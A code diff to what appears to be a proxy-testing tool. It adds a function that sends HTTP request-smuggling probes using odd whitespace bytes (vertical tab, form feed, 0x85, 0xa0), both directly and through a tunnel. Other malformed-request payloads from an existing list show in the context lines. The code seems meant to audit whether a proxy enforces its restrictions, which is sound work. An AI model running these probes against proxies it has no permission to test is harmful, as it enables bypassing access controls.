@@ -14,7 +14,10 @@ from functools import partial
 from .talk import SECONDS, asked, connect, connect_to_proxy, must_reach, proxy_credentials, tunnel
 from .way import RefusedError, Way
 
-__all__ = ["smuggle_requests"]
+__all__ = ["smuggle_requests", "smuggle_requests_in_odd_spaces"]
+
+# What Python's own server, among others, takes for spaces between the words of a request.
+_ODD_SPACES = (b"\x0b", b"\x0c", b"\x1c", b"\x1f", b"\x85", b"\xa0")
 
 _TIDE = 0.1  # seconds for an answer that does not come
 _CHUNK = 1 << 16
@@ -35,7 +38,26 @@ def smuggle_requests(granted: Sequence[object], stranger: str) -> Iterator[Way]:
             acts[f"{name}, after another"] = partial(_passed_on, partial(connect, host, port), words, good)
     for name, words in _pages(own, stranger.encode()).items():
         acts[f"{name}, as a page"] = partial(_passed_on, connect_to_proxy, words)
-    with ThreadPoolExecutor(_AT_A_TIME) as pool:  # most of it is waiting
+    yield from _together(acts)
+
+
+def smuggle_requests_in_odd_spaces(granted: Sequence[object], stranger: str) -> Iterator[Way]:
+    """Ask for a page of `stranger` in requests that have spaces which are none to most, and are to some."""
+    host, port = str(granted[0]), int(str(granted[1]))
+    must_reach(host, port)
+    rest = b"Host: " + stranger.encode() + b"\r\n\r\n"
+    acts: dict[str, Callable[[], str]] = {}
+    for space in _ODD_SPACES:
+        for name, line in (("before", b"%bGET / HTTP/1.1\r\n"), ("within", b"GET%b/ HTTP/1.1\r\n")):
+            words = line % space + rest
+            acts[f"{space!r} {name}, straight"] = partial(_passed_on, partial(connect, host, port), words)
+            acts[f"{space!r} {name}, by a tunnel"] = partial(_passed_on, partial(tunnel, host, port), words)
+    yield from _together(acts)
+
+
+def _together(acts: Mapping[str, Callable[[], str]]) -> Iterator[Way]:
+    """Do it all, several things at a time: most of it is waiting."""
+    with ThreadPoolExecutor(_AT_A_TIME) as pool:
         for name, done in [(name, pool.submit(act)) for name, act in acts.items()]:
             yield name, done.result
 
@@ -80,9 +102,6 @@ def _requests(own: bytes, stranger: bytes) -> Mapping[str, bytes]:
         "a nul in a header": get + b"X: a\0" + other + host + end,
         "an empty line before": b"\r\n\r\n" + second,
         "a space before": b" " + second,
-        "a vertical tab before": b"\x0b" + second,
-        "a hard space before": b"\xa0" + second,
-        "tabs of all sorts": b"GET\x0b/\x0cHTTP/1.1\r\n" + other + end,
         "no version": b"GET http://" + stranger + b"/\r\n",
         "an old version": b"GET / HTTP/1.0\r\n" + other + end,
         "a later version": b"GET / HTTP/1.9\r\n" + other + end,
